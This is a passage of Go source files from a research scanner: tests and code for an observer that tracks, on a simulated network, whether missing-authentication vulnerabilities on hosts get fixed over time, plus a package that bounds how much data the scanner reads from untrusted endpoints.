		if got := reg.GaugeValue(telemetry.Labeled("mavscan_observer_current", "state", state)); got != int64(want) {
			t.Errorf("current{state=%q} = %d, want %d", state, got, want)
		}
	}
}

// TestTelemetryOffIsInert re-runs a watch without Instrument and checks
// nothing panics and no metrics appear — the nil-handle no-op contract.
func TestTelemetryOffIsInert(t *testing.T) {
	n := simnet.New()
	sim := simtime.NewSim(start)
	_, _, target := deployTarget(t, n, "10.0.0.8")
	obs := New(n, sim)
	res := obs.Watch([]Target{target}, 3*time.Hour, 6*time.Hour)
	sim.Run()
	if len(res.Overall) != 2 {
		t.Fatalf("%d samples, want 2", len(res.Overall))
	}
}
