package observer

import (
	"net/netip"
	"testing"
	"time"

	"mavscan/internal/apps"
	"mavscan/internal/httpsim"
	"mavscan/internal/mav"
	"mavscan/internal/simnet"
	"mavscan/internal/simtime"
)

var start = time.Date(2021, 6, 3, 0, 0, 0, 0, time.UTC)

// deployTarget builds one vulnerable Docker host plus its observer target.
func deployTarget(t *testing.T, n *simnet.Network, ipStr string) (*apps.Instance, *simnet.Host, Target) {
	t.Helper()
	inst, err := apps.New(apps.Config{App: mav.Docker})
	if err != nil {
		t.Fatal(err)
	}
	ip := netip.MustParseAddr(ipStr)
	h := simnet.NewHost(ip)
	h.Bind(2375, httpsim.ConnHandler(inst.Handler()))
	if err := n.AddHost(h); err != nil {
		t.Fatal(err)
	}
	return inst, h, Target{
		IP: ip, Port: 2375, Scheme: "http", App: mav.Docker,
		ByDefault: true, InitialVersion: inst.Version(),
	}
}

func TestWatchClassifiesThreeOutcomes(t *testing.T) {
	n := simnet.New()
	sim := simtime.NewSim(start)

	instVuln, _, tVuln := deployTarget(t, n, "10.0.0.1")
	instFix, _, tFix := deployTarget(t, n, "10.0.0.2")
	_, hostOff, tOff := deployTarget(t, n, "10.0.0.3")
	_ = instVuln

	// After 5 hours one host is fixed and one goes offline.
	sim.At(start.Add(5*time.Hour), func(time.Time) {
		instFix.SetAuthRequired(true)
		hostOff.SetOnline(false)
	})

	obs := New(n, sim)
	obs.Workers = 2
	res := obs.Watch([]Target{tVuln, tFix, tOff}, 3*time.Hour, 12*time.Hour)
	sim.Run()

	if len(res.Overall) != 4 {
		t.Fatalf("%d samples, want 4 (3h,6h,9h,12h)", len(res.Overall))
	}
	first := res.Overall[0] // at 3h: everything still vulnerable
	if first.Vulnerable != 3 || first.Fixed != 0 || first.Offline != 0 {
		t.Fatalf("3h sample: %+v", first)
	}
	last := res.FinalSample()
	if last.Vulnerable != 1 || last.Fixed != 1 || last.Offline != 1 {
		t.Fatalf("final sample: %+v", last)
	}
	if len(res.ByApp[mav.Docker]) != 4 {
		t.Fatalf("per-app series missing: %d", len(res.ByApp[mav.Docker]))
	}
	if len(res.ByDefault[true]) != 4 {
		t.Fatalf("per-default series missing")
	}
}

func TestFirewalledCountsAsOffline(t *testing.T) {
	n := simnet.New()
	sim := simtime.NewSim(start)
	_, host, target := deployTarget(t, n, "10.0.0.9")
	host.SetFirewalled(true)
	obs := New(n, sim)
	res := obs.Watch([]Target{target}, time.Hour, time.Hour)
	sim.Run()
	if res.FinalSample().Offline != 1 {
		t.Fatalf("firewalled host not classified offline: %+v", res.FinalSample())
	}
}

func TestVersionUpdateDetected(t *testing.T) {
	n := simnet.New()
	sim := simtime.NewSim(start)

	// Deploy an old Docker release, then "upgrade" it mid-window.
	oldInst, err := apps.New(apps.Config{App: mav.Docker, Version: "19.03.0"})
	if err != nil {
		t.Fatal(err)
	}
	ip := netip.MustParseAddr("10.0.0.4")
	h := simnet.NewHost(ip)
	h.Bind(2375, httpsim.ConnHandler(oldInst.Handler()))
	if err := n.AddHost(h); err != nil {
		t.Fatal(err)
	}
	target := Target{IP: ip, Port: 2375, Scheme: "http", App: mav.Docker, InitialVersion: "19.03.0"}

	sim.At(start.Add(2*time.Hour), func(time.Time) {
		newInst, err := apps.New(apps.Config{App: mav.Docker, Version: "20.10.6"})
		if err != nil {
			t.Error(err)
			return
		}
		h.Bind(2375, httpsim.ConnHandler(newInst.Handler()))
	})

	obs := New(n, sim)
	obs.FingerprintEvery = 1 // fingerprint on every tick for the test
	res := obs.Watch([]Target{target}, 3*time.Hour, 9*time.Hour)
	sim.Run()
	if res.Updated != 1 {
		t.Fatalf("Updated = %d, want 1", res.Updated)
	}
	// Still vulnerable throughout: updating did not remediate.
	if res.FinalSample().Vulnerable != 1 {
		t.Fatalf("final: %+v", res.FinalSample())
	}
}
