// Package observer implements the longevity study (RQ3, Figure 2): every
// three hours over four weeks it re-checks each host found vulnerable by
// the initial scan, classifying it as still vulnerable, fixed (reachable
// and identifiable but no longer suffering from the MAV), or offline
// (unreachable or firewalled). It also re-runs the version fingerprinter
// to count hosts that updated during the window.
package observer

import (
	"context"
	"net/netip"
	"sync"
	"time"

	"mavscan/internal/fingerprint"
	"mavscan/internal/httpsim"
	"mavscan/internal/mav"
	"mavscan/internal/simnet"
	"mavscan/internal/simtime"
	"mavscan/internal/telemetry"
	"mavscan/internal/tsunami"
	"mavscan/internal/tsunami/plugins"
)

// State classifies a host at one observation tick.
type State int

// The three Figure-2 outcomes.
const (
	StateVulnerable State = iota
	StateFixed
	StateOffline
)

// String returns the Figure-2 label of the state, also used as the metric
// label value.
func (s State) String() string {
	switch s {
	case StateVulnerable:
		return "vulnerable"
	case StateFixed:
		return "fixed"
	default:
		return "offline"
	}
}

// Target is one vulnerable host under observation.
type Target struct {
	IP     netip.Addr
	Port   int
	Scheme string
	App    mav.App
	// ByDefault groups the target for Figure 2's right column.
	ByDefault bool
	// InitialVersion is the version fingerprinted by the original scan.
	InitialVersion string
}

// Sample is the aggregate classification at one tick.
type Sample struct {
	T          time.Time
	Vulnerable int
	Fixed      int
	Offline    int
}

// Total returns the number of observed hosts at the tick.
func (s Sample) Total() int { return s.Vulnerable + s.Fixed + s.Offline }

// Result accumulates the whole observation run.
type Result struct {
	Targets []Target
	// Overall is the whole-population time series; ByApp and ByDefault
	// split it the way Figure 2's two columns do.
	Overall    []Sample
	ByApp      map[mav.App][]Sample
	ByCategory map[mav.Category][]Sample
	ByDefault  map[bool][]Sample
	// Updated counts targets whose fingerprinted version changed at least
	// once during the observation window.
	Updated int
}

// FinalSample returns the last overall sample.
func (r *Result) FinalSample() Sample {
	if len(r.Overall) == 0 {
		return Sample{}
	}
	return r.Overall[len(r.Overall)-1]
}

// Observer re-scans vulnerable hosts on a simulated schedule.
type Observer struct {
	net    *simnet.Network
	engine *tsunami.Engine
	fp     *fingerprint.Fingerprinter
	clock  *simtime.Sim
	// FingerprintEvery runs the (crawl-heavy) version fingerprinter only
	// on every n-th tick; the MAV re-check still runs on every tick.
	// Default 8 (once a day at the 3-hour cadence).
	FingerprintEvery int
	// Workers parallelizes the per-tick target checks (default 16).
	Workers int
	tel     *obsTelemetry
}

// obsTelemetry carries the longevity-study handles. Per-state check
// counters accumulate the Figure-2 classification totals across ticks;
// transition counters record every state change between consecutive ticks
// of the same target; the gauges mirror the latest tick's sample.
type obsTelemetry struct {
	reg         *telemetry.Registry
	ticks       *telemetry.Counter
	tickDur     *telemetry.Histogram
	updates     *telemetry.Counter
	checks      map[State]*telemetry.Counter
	transitions map[[2]State]*telemetry.Counter
	current     map[State]*telemetry.Gauge
}

// Instrument registers the longevity-study metrics with reg (nil = off).
// Call before Watch.
func (o *Observer) Instrument(reg *telemetry.Registry) {
	if !reg.Enabled() {
		return
	}
	states := []State{StateVulnerable, StateFixed, StateOffline}
	tel := &obsTelemetry{
		reg:         reg,
		ticks:       reg.Counter("mavscan_observer_ticks_total"),
		tickDur:     reg.Histogram("mavscan_observer_tick_seconds", nil),
		updates:     reg.Counter("mavscan_observer_updates_total"),
		checks:      make(map[State]*telemetry.Counter, len(states)),
		transitions: make(map[[2]State]*telemetry.Counter, len(states)*len(states)),
		current:     make(map[State]*telemetry.Gauge, len(states)),
	}
	for _, s := range states {
		tel.checks[s] = reg.Counter(
			telemetry.Labeled("mavscan_observer_checks_total", "state", s.String()))
		tel.current[s] = reg.Gauge(
			telemetry.Labeled("mavscan_observer_current", "state", s.String()))
		for _, to := range states {
			if to == s {
				continue
			}
			tel.transitions[[2]State{s, to}] = reg.Counter(
				telemetry.Labeled("mavscan_observer_transitions_total",
					"from", s.String(), "to", to.String()))
		}
	}
	o.tel = tel
}

// New builds an observer on the given network and clock.
func New(n *simnet.Network, clock *simtime.Sim) *Observer {
	client := httpsim.NewClient(n, httpsim.ClientOptions{
		Timeout:           10 * time.Second,
		DisableKeepAlives: true,
	})
	env := tsunami.NewEnv(client)
	return &Observer{
		net:    n,
		engine: tsunami.NewEngine(plugins.NewRegistry(), client),
		fp:     fingerprint.New(env),
		clock:  clock,
	}
}

// classify performs one check of one target.
func (o *Observer) classify(t Target) State {
	if err := o.net.ProbePort(t.IP, t.Port); err != nil {
		return StateOffline
	}
	target := tsunami.Target{IP: t.IP, Port: t.Port, Scheme: t.Scheme, App: t.App}
	if len(o.engine.Scan(context.Background(), target)) > 0 {
		return StateVulnerable
	}
	return StateFixed
}

// Watch schedules an observation every interval for the given duration,
// starting one interval after the current simulated time. The returned
// Result fills in as the simulated clock advances; it is complete once the
// clock has passed start+duration.
func (o *Observer) Watch(targets []Target, interval, duration time.Duration) *Result {
	res := &Result{
		Targets:    targets,
		ByApp:      map[mav.App][]Sample{},
		ByCategory: map[mav.Category][]Sample{},
		ByDefault:  map[bool][]Sample{},
	}
	lastVersion := make(map[netip.Addr]string, len(targets))
	updated := make(map[netip.Addr]bool)
	for _, t := range targets {
		lastVersion[t.IP] = t.InitialVersion
	}
	fpEvery := o.FingerprintEvery
	if fpEvery <= 0 {
		fpEvery = 8
	}
	workers := o.Workers
	if workers <= 0 {
		workers = 16
	}
	// Every target enters observation in the vulnerable state: the initial
	// scan put it on the list. Transition counters key off this baseline.
	prev := make([]State, len(targets))
	for i := range prev {
		prev[i] = StateVulnerable
	}
	start := o.clock.Now()
	tick := 0
	o.clock.Every(start.Add(interval), interval, start.Add(duration+time.Second), func(now time.Time) {
		tick++
		runFP := tick%fpEvery == 0
		tel := o.tel
		var tickStart time.Time
		if tel != nil {
			tickStart = tel.reg.Now()
		}

		states := make([]State, len(targets))
		versions := make([]string, len(targets))
		var wg sync.WaitGroup
		idx := make(chan int, len(targets))
		for i := range targets {
			idx <- i
		}
		close(idx)
		for w := 0; w < workers; w++ {
			wg.Add(1)
			go func() {
				defer wg.Done()
				for i := range idx {
					t := targets[i]
					states[i] = o.classify(t)
					if runFP && states[i] != StateOffline && !updated[t.IP] {
						fpRes := o.fp.Fingerprint(context.Background(), tsunami.Target{
							IP: t.IP, Port: t.Port, Scheme: t.Scheme, App: t.App,
						})
						versions[i] = fpRes.Version
					}
				}
			}()
		}
		wg.Wait()

		overall := Sample{T: now}
		perApp := map[mav.App]*Sample{}
		perCat := map[mav.Category]*Sample{}
		perDefault := map[bool]*Sample{}
		for i, t := range targets {
			bump := func(s *Sample) {
				switch states[i] {
				case StateVulnerable:
					s.Vulnerable++
				case StateFixed:
					s.Fixed++
				default:
					s.Offline++
				}
			}
			bump(&overall)
			if perApp[t.App] == nil {
				perApp[t.App] = &Sample{T: now}
			}
			bump(perApp[t.App])
			cat := mav.MustLookup(t.App).Category
			if perCat[cat] == nil {
				perCat[cat] = &Sample{T: now}
			}
			bump(perCat[cat])
			if perDefault[t.ByDefault] == nil {
				perDefault[t.ByDefault] = &Sample{T: now}
			}
			bump(perDefault[t.ByDefault])

			// Version tracking for the update count (RQ3's 2.4%).
			if v := versions[i]; v != "" && !updated[t.IP] && lastVersion[t.IP] != "" && v != lastVersion[t.IP] {
				updated[t.IP] = true
				res.Updated++
				if tel != nil {
					tel.updates.Inc()
				}
			}
		}
		if tel != nil {
			tel.ticks.Inc()
			for i := range targets {
				tel.checks[states[i]].Inc()
				if states[i] != prev[i] {
					tel.transitions[[2]State{prev[i], states[i]}].Inc()
				}
			}
			tel.current[StateVulnerable].Set(int64(overall.Vulnerable))
			tel.current[StateFixed].Set(int64(overall.Fixed))
			tel.current[StateOffline].Set(int64(overall.Offline))
			tel.tickDur.ObserveDuration(tel.reg.Now().Sub(tickStart))
		}
		copy(prev, states)
		res.Overall = append(res.Overall, overall)
		for app, s := range perApp {
			res.ByApp[app] = append(res.ByApp[app], *s)
		}
		for cat, s := range perCat {
			res.ByCategory[cat] = append(res.ByCategory[cat], *s)
		}
		for d, s := range perDefault {
			res.ByDefault[d] = append(res.ByDefault[d], *s)
		}
	})
	return res
}
