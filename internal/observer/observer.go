// Package observer implements the longevity study (RQ3, Figure 2): every
// three hours over four weeks it re-checks each host found vulnerable by
// the initial scan, classifying it as still vulnerable, fixed (reachable
// and identifiable but no longer suffering from the MAV), or offline
// (unreachable or firewalled). It also re-runs the version fingerprinter
// to count hosts that updated during the window.
package observer

import (
	"context"
	"net/netip"
	"strconv"
	"sync"
	"time"

	"mavscan/internal/fingerprint"
	"mavscan/internal/httpsim"
	"mavscan/internal/mav"
	"mavscan/internal/resilience"
	"mavscan/internal/simnet"
	"mavscan/internal/simtime"
	"mavscan/internal/telemetry"
	"mavscan/internal/tsunami"
	"mavscan/internal/tsunami/plugins"
)

// State classifies a host at one observation tick.
type State int

// The three Figure-2 outcomes.
const (
	StateVulnerable State = iota
	StateFixed
	StateOffline
)

// String returns the Figure-2 label of the state, also used as the metric
// label value.
func (s State) String() string {
	switch s {
	case StateVulnerable:
		return "vulnerable"
	case StateFixed:
		return "fixed"
	default:
		return "offline"
	}
}

// Target is one vulnerable host under observation.
type Target struct {
	IP     netip.Addr
	Port   int
	Scheme string
	App    mav.App
	// ByDefault groups the target for Figure 2's right column.
	ByDefault bool
	// InitialVersion is the version fingerprinted by the original scan.
	InitialVersion string
}

// Sample is the aggregate classification at one tick.
type Sample struct {
	T          time.Time
	Vulnerable int
	Fixed      int
	Offline    int
}

// Total returns the number of observed hosts at the tick.
func (s Sample) Total() int { return s.Vulnerable + s.Fixed + s.Offline }

// Result accumulates the whole observation run.
type Result struct {
	Targets []Target
	// Overall is the whole-population time series; ByApp and ByDefault
	// split it the way Figure 2's two columns do.
	Overall    []Sample
	ByApp      map[mav.App][]Sample
	ByCategory map[mav.Category][]Sample
	ByDefault  map[bool][]Sample
	// Updated counts targets whose fingerprinted version changed at least
	// once during the observation window.
	Updated int
}

// FinalSample returns the last overall sample.
func (r *Result) FinalSample() Sample {
	if len(r.Overall) == 0 {
		return Sample{}
	}
	return r.Overall[len(r.Overall)-1]
}

// Observer re-scans vulnerable hosts on a simulated schedule.
type Observer struct {
	net    *simnet.Network
	engine *tsunami.Engine
	fp     *fingerprint.Fingerprinter
	clock  *simtime.Sim
	// FingerprintEvery runs the (crawl-heavy) version fingerprinter only
	// on every n-th tick; the MAV re-check still runs on every tick.
	// Default 8 (once a day at the 3-hour cadence).
	FingerprintEvery int
	// Workers parallelizes the per-tick target checks (default 16).
	Workers int
	// Resilience, when enabled, retries each probe and HTTP request under
	// the policy (backoff waits run on an immediate sleeper — simulated
	// time does not pass during a tick), and bounds every per-target check
	// with a context derived from the policy's budget so a hung host
	// cannot stall the tick. Set before Watch.
	Resilience resilience.Policy
	// OfflineAfter is how many consecutive failed ticks a target needs
	// before it is reported offline; until then it keeps its last
	// reachable classification. Default 1 — the paper's original
	// single-miss rule. Raise it when transient faults are in play: one
	// blip at the wrong moment otherwise pollutes the Figure-2 series
	// forever.
	OfflineAfter int
	retr         *resilience.Retrier
	tel          *obsTelemetry
}

// targetKey identifies a target under observation. Both the IP and the
// port matter: two applications on one host are distinct targets, so
// keying per-target state by bare IP would collide them.
type targetKey struct {
	ip   netip.Addr
	port int
}

// obsTelemetry carries the longevity-study handles. Per-state check
// counters accumulate the Figure-2 classification totals across ticks;
// transition counters record every state change between consecutive ticks
// of the same target; the gauges mirror the latest tick's sample.
type obsTelemetry struct {
	reg         *telemetry.Registry
	ticks       *telemetry.Counter
	tickDur     *telemetry.Histogram
	updates     *telemetry.Counter
	checks      map[State]*telemetry.Counter
	transitions map[[2]State]*telemetry.Counter
	current     map[State]*telemetry.Gauge
}

// Instrument registers the longevity-study metrics with reg (nil = off).
// Call before Watch.
func (o *Observer) Instrument(reg *telemetry.Registry) {
	if !reg.Enabled() {
		return
	}
	states := []State{StateVulnerable, StateFixed, StateOffline}
	tel := &obsTelemetry{
		reg:         reg,
		ticks:       reg.Counter("mavscan_observer_ticks_total"),
		tickDur:     reg.Histogram("mavscan_observer_tick_seconds", nil),
		updates:     reg.Counter("mavscan_observer_updates_total"),
		checks:      make(map[State]*telemetry.Counter, len(states)),
		transitions: make(map[[2]State]*telemetry.Counter, len(states)*len(states)),
		current:     make(map[State]*telemetry.Gauge, len(states)),
	}
	for _, s := range states {
		tel.checks[s] = reg.Counter(
			telemetry.Labeled("mavscan_observer_checks_total", "state", s.String()))
		tel.current[s] = reg.Gauge(
			telemetry.Labeled("mavscan_observer_current", "state", s.String()))
		for _, to := range states {
			if to == s {
				continue
			}
			tel.transitions[[2]State{s, to}] = reg.Counter(
				telemetry.Labeled("mavscan_observer_transitions_total",
					"from", s.String(), "to", to.String()))
		}
	}
	o.tel = tel
}

// New builds an observer on the given network and clock.
func New(n *simnet.Network, clock *simtime.Sim) *Observer {
	client := httpsim.NewClient(n, httpsim.ClientOptions{
		Timeout:           10 * time.Second,
		DisableKeepAlives: true,
	})
	env := tsunami.NewEnv(client)
	return &Observer{
		net:    n,
		engine: tsunami.NewEngine(plugins.NewRegistry(), client),
		fp:     fingerprint.New(env),
		clock:  clock,
	}
}

// classify performs one check of one target. The probe retries under the
// resilience policy (a nil retrier probes once), so a transient SYN drop
// does not read as the host having gone offline.
func (o *Observer) classify(ctx context.Context, t Target) State {
	err := o.retr.Do(ctx, func(context.Context) error {
		return o.net.ProbePort(t.IP, t.Port)
	})
	if err != nil {
		return StateOffline
	}
	target := tsunami.Target{IP: t.IP, Port: t.Port, Scheme: t.Scheme, App: t.App}
	if len(o.engine.Scan(ctx, target)) > 0 {
		return StateVulnerable
	}
	return StateFixed
}

// Watch schedules an observation every interval for the given duration,
// starting one interval after the current simulated time: exactly
// duration/interval ticks, the last one landing on start+duration. The
// returned Result fills in as the simulated clock advances; it is complete
// once the clock has passed start+duration.
func (o *Observer) Watch(targets []Target, interval, duration time.Duration) *Result {
	res := &Result{
		Targets:    targets,
		ByApp:      map[mav.App][]Sample{},
		ByCategory: map[mav.Category][]Sample{},
		ByDefault:  map[bool][]Sample{},
	}
	// Per-target version/update state is keyed by (IP, port): two targets
	// sharing an address (different applications on different ports) are
	// independent and must not suppress each other's fingerprints.
	lastVersion := make(map[targetKey]string, len(targets))
	updated := make(map[targetKey]bool)
	for _, t := range targets {
		lastVersion[targetKey{t.IP, t.Port}] = t.InitialVersion
	}
	fpEvery := o.FingerprintEvery
	if fpEvery <= 0 {
		fpEvery = 8
	}
	workers := o.Workers
	if workers <= 0 {
		workers = 16
	}
	offlineAfter := o.OfflineAfter
	if offlineAfter <= 0 {
		offlineAfter = 1
	}
	if o.retr == nil && o.Resilience.Enabled() {
		// Backoff waits run on an immediate sleeper: within a tick the
		// simulated clock stands still, so the retry loop must not block a
		// real goroutine on it. The nominal delays still land in telemetry.
		o.retr = resilience.New(o.Resilience, simtime.Immediate(o.clock))
		if o.tel != nil {
			o.retr.Instrument(o.tel.reg, "observer")
		}
		o.engine.SetRetrier(o.retr)
		o.fp.SetRetrier(o.retr)
	}
	// Every target enters observation in the vulnerable state: the initial
	// scan put it on the list. Transition counters key off this baseline.
	// grace counts consecutive failed checks; a target is only reported
	// offline once grace reaches offlineAfter, and until then it keeps its
	// last reachable classification (lastGood).
	prev := make([]State, len(targets))
	lastGood := make([]State, len(targets))
	grace := make([]int, len(targets))
	for i := range prev {
		prev[i] = StateVulnerable
		lastGood[i] = StateVulnerable
	}
	start := o.clock.Now()
	tick := 0
	o.clock.EveryN(start.Add(interval), interval, int(duration/interval), func(now time.Time) {
		tick++
		runFP := tick%fpEvery == 0
		tel := o.tel
		var tickStart time.Time
		if tel != nil {
			tickStart = tel.reg.Now()
		}

		states := make([]State, len(targets))
		versions := make([]string, len(targets))
		var wg sync.WaitGroup
		idx := make(chan int, len(targets))
		for i := range targets {
			idx <- i
		}
		close(idx)
		for w := 0; w < workers; w++ {
			wg.Add(1)
			go func() {
				defer wg.Done()
				for i := range idx {
					t := targets[i]
					// Each check runs under a context derived from the
					// resilience budget, so one hung simulated host cannot
					// stall the whole tick.
					ctx, cancel := o.retr.Context(context.Background())
					raw := o.classify(ctx, t)
					if raw == StateOffline {
						grace[i]++
						if grace[i] < offlineAfter {
							// Not yet confirmed offline: keep the last
							// reachable classification.
							states[i] = lastGood[i]
						} else {
							states[i] = StateOffline
						}
					} else {
						grace[i] = 0
						lastGood[i] = raw
						states[i] = raw
					}
					if runFP && raw != StateOffline && !updated[targetKey{t.IP, t.Port}] {
						fpRes := o.fp.Fingerprint(ctx, tsunami.Target{
							IP: t.IP, Port: t.Port, Scheme: t.Scheme, App: t.App,
						})
						versions[i] = fpRes.Version
					}
					cancel()
				}
			}()
		}
		wg.Wait()

		overall := Sample{T: now}
		perApp := map[mav.App]*Sample{}
		perCat := map[mav.Category]*Sample{}
		perDefault := map[bool]*Sample{}
		for i, t := range targets {
			bump := func(s *Sample) {
				switch states[i] {
				case StateVulnerable:
					s.Vulnerable++
				case StateFixed:
					s.Fixed++
				default:
					s.Offline++
				}
			}
			bump(&overall)
			if perApp[t.App] == nil {
				perApp[t.App] = &Sample{T: now}
			}
			bump(perApp[t.App])
			cat := mav.MustLookup(t.App).Category
			if perCat[cat] == nil {
				perCat[cat] = &Sample{T: now}
			}
			bump(perCat[cat])
			if perDefault[t.ByDefault] == nil {
				perDefault[t.ByDefault] = &Sample{T: now}
			}
			bump(perDefault[t.ByDefault])

			// Version tracking for the update count (RQ3's 2.4%).
			k := targetKey{t.IP, t.Port}
			if v := versions[i]; v != "" && !updated[k] && lastVersion[k] != "" && v != lastVersion[k] {
				updated[k] = true
				res.Updated++
				if tel != nil {
					tel.updates.Inc()
				}
			}
		}
		if tel != nil {
			tel.ticks.Inc()
			for i := range targets {
				tel.checks[states[i]].Inc()
				if states[i] != prev[i] {
					tel.transitions[[2]State{prev[i], states[i]}].Inc()
				}
			}
			tel.current[StateVulnerable].Set(int64(overall.Vulnerable))
			tel.current[StateFixed].Set(int64(overall.Fixed))
			tel.current[StateOffline].Set(int64(overall.Offline))
			tel.tickDur.ObserveDuration(tel.reg.Now().Sub(tickStart))
			// One event per tick, emitted from this single-threaded callback
			// with the tick's aggregate — under a Sim clock the stream is
			// byte-identical across same-seed runs.
			tel.reg.Event("observer.tick",
				"tick", strconv.Itoa(tick),
				"vulnerable", strconv.Itoa(overall.Vulnerable),
				"fixed", strconv.Itoa(overall.Fixed),
				"offline", strconv.Itoa(overall.Offline))
		}
		copy(prev, states)
		res.Overall = append(res.Overall, overall)
		for app, s := range perApp {
			res.ByApp[app] = append(res.ByApp[app], *s)
		}
		for cat, s := range perCat {
			res.ByCategory[cat] = append(res.ByCategory[cat], *s)
		}
		for d, s := range perDefault {
			res.ByDefault[d] = append(res.ByDefault[d], *s)
		}
	})
	return res
}
