// Package limits is the shared budget ledger of the scanner's read paths.
//
// Every byte a probed endpoint sends is peer-controlled, and the paper's
// pipeline touches millions of endpoints: a single weaponized responder —
// an unbounded body, a header bomb, a compression bomb, a tarpit — must
// cost one bounded exchange, never process memory or wall time ("Never
// Trust Your Victim" hardening). The caps that used to be scattered as
// per-stage constants live here so prefilter, tsunami, fingerprint, the
// attacker, the observer and httpsim's client all enforce the same
// envelope:
//
//   - MaxBody / ReadBody    — per-response body cap, with a truncation bit
//     so a body cut at the cap is distinguishable from one that is exactly
//     the cap (a signature or hash must never half-match a prefix).
//   - DrainBody / Drain     — the small cap for bodies read only to reuse
//     a keep-alive connection.
//   - MaxConnBytes / Conn   — per-connection byte budget: whatever the
//     protocol layer believes, a connection stops yielding bytes here.
//   - Watchdog              — per-connection wall budget off the injected
//     clock, so tarpits and slow-loris drips terminate even when the
//     protocol layer sees steady progress.
//   - MaxDecompressRatio / Gunzip — decompression-ratio cap: the sanctioned
//     way to expand peer-supplied compressed bytes (the boundedread lint
//     rule flags raw gzip.NewReader/flate.NewReader over network readers).
package limits

import (
	"bytes"
	"compress/gzip"
	"errors"
	"fmt"
	"io"
	"net"
	"sync"
	"time"

	"mavscan/internal/simtime"
)

const (
	// MaxBody bounds how much of one response body any stage reads — the
	// former per-stage 512KiB constants of prefilter, tsunami and the
	// fingerprinter, deduplicated.
	MaxBody = 512 << 10
	// DrainBody bounds draining of bodies read only for connection reuse
	// (the attacker's discard path).
	DrainBody = 64 << 10
	// MaxHeaderBytes caps request headers on simulated servers and response
	// headers on scanning clients (httpsim wires it into both sides).
	MaxHeaderBytes = 256 << 10
	// MaxConnBytes is the default per-connection read budget enforced under
	// the protocol layer: headers + body + framing of every request on the
	// connection. It is deliberately far above MaxBody + MaxHeaderBytes so
	// it only trips on endpoints that stream garbage past every
	// protocol-level cap.
	MaxConnBytes = 4 << 20
	// MaxDecompressRatio caps how many bytes Gunzip yields per compressed
	// input byte; a gzip bomb compresses ~1000:1, real pages sit well
	// under 32:1.
	MaxDecompressRatio = 32
)

// ErrConnBudget is returned by a Conn wrapper once the connection has
// yielded its full byte budget.
var ErrConnBudget = errors.New("limits: connection byte budget exhausted")

// ErrRatio is returned by Gunzip when the output exceeds the
// decompression-ratio cap.
var ErrRatio = errors.New("limits: decompression ratio cap exceeded")

// ReadBody reads r through a hard cap of max bytes and reports whether the
// stream had more: it reads max+1 bytes and keeps max, so a body that is
// exactly max long comes back with truncated=false while a longer one is
// flagged. Callers that match signatures or hashes must treat truncated
// bodies as partial evidence, never as the full document.
func ReadBody(r io.Reader, max int64) (body []byte, truncated bool, err error) {
	body, err = io.ReadAll(io.LimitReader(r, max+1))
	if int64(len(body)) > max {
		return body[:max], true, err
	}
	return body, false, err
}

// Drain discards up to DrainBody bytes of r, surfacing the copy error that
// the old per-driver drains dropped. It does not close r.
func Drain(r io.Reader) error {
	_, err := io.Copy(io.Discard, io.LimitReader(r, DrainBody))
	return err
}

// Conn wraps c so cumulative reads beyond max bytes fail with
// ErrConnBudget. max <= 0 applies MaxConnBytes. Writes are not budgeted:
// the scanner controls what it sends.
func Conn(c net.Conn, max int64) net.Conn {
	if max <= 0 {
		max = MaxConnBytes
	}
	return &budgetConn{Conn: c, remaining: max}
}

// budgetConn decrements its budget on every Read. The transport owns a
// single read loop per connection, so the counter needs no locking.
type budgetConn struct {
	net.Conn
	remaining int64
}

func (c *budgetConn) Read(p []byte) (int, error) {
	if c.remaining <= 0 {
		return 0, ErrConnBudget
	}
	if int64(len(p)) > c.remaining {
		p = p[:c.remaining]
	}
	n, err := c.Conn.Read(p)
	c.remaining -= int64(n)
	return n, err
}

// Watchdog closes c once budget has elapsed on clock, unless the returned
// stop function runs first. It is the per-connection wall budget: protocol
// timeouts reset on progress, so a slow-loris drip that delivers one byte
// per keep-alive interval evades them — the watchdog does not care about
// progress, only elapsed time. stop is idempotent and must be called when
// the connection ends normally.
func Watchdog(c io.Closer, clock simtime.Sleeper, budget time.Duration) (stop func()) {
	if clock == nil {
		clock = simtime.Wall{}
	}
	// The wall-clock case is the scan hot path: one watchdog per dialed
	// connection. A clock that can schedule a callback directly (a
	// runtime timer: no goroutine, leaves the timer heap on stop) keeps
	// the benign-path cost to one timer instead of a goroutine plus an
	// unstoppable After channel per connection.
	if af, ok := clock.(interface {
		AfterFunc(time.Duration, func()) func()
	}); ok {
		return af.AfterFunc(budget, func() { c.Close() })
	}
	done := make(chan struct{})
	go func() {
		select {
		case <-clock.After(budget):
			c.Close()
		case <-done:
		}
	}()
	var once sync.Once
	return func() { once.Do(func() { close(done) }) }
}

// Gunzip decompresses peer-supplied bytes with the output re-bounded: at
// most max bytes (MaxBody if max <= 0) and at most MaxDecompressRatio
// bytes per input byte, whichever is smaller. Exceeding either cap is an
// error, not a truncation — expanded-and-clipped bomb output has no
// legitimate consumer. This is the sanctioned decompression path the
// boundedread lint rule points at.
func Gunzip(data []byte, max int64) ([]byte, error) {
	if max <= 0 {
		max = MaxBody
	}
	if ratio := int64(len(data)) * MaxDecompressRatio; ratio < max {
		max = ratio
	}
	zr, err := gzip.NewReader(bytes.NewReader(data))
	if err != nil {
		return nil, fmt.Errorf("limits: gunzip: %w", err)
	}
	defer zr.Close()
	out, truncated, err := ReadBody(zr, max)
	if err != nil {
		return nil, fmt.Errorf("limits: gunzip: %w", err)
	}
	if truncated {
		return nil, ErrRatio
	}
	return out, nil
}
