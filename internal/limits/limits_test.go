package limits

import (
	"bytes"
	"compress/gzip"
	"errors"
	"io"
	"net"
	"strings"
	"testing"
	"time"

	"mavscan/internal/simtime"
)

func TestReadBodyBoundary(t *testing.T) {
	const cap = 1 << 10
	cases := []struct {
		name      string
		size      int
		wantLen   int
		truncated bool
	}{
		{"under", cap - 1, cap - 1, false},
		{"exact", cap, cap, false},
		{"one-over", cap + 1, cap, true},
		{"far-over", 8 * cap, cap, true},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			body, truncated, err := ReadBody(strings.NewReader(strings.Repeat("x", tc.size)), cap)
			if err != nil {
				t.Fatalf("ReadBody: %v", err)
			}
			if len(body) != tc.wantLen {
				t.Errorf("len = %d, want %d", len(body), tc.wantLen)
			}
			if truncated != tc.truncated {
				t.Errorf("truncated = %v, want %v", truncated, tc.truncated)
			}
		})
	}
}

func TestDrainStopsAtCap(t *testing.T) {
	src := &countingReader{n: 10 * DrainBody}
	if err := Drain(src); err != nil {
		t.Fatalf("Drain: %v", err)
	}
	if src.read != DrainBody {
		t.Errorf("drained %d bytes, want %d", src.read, DrainBody)
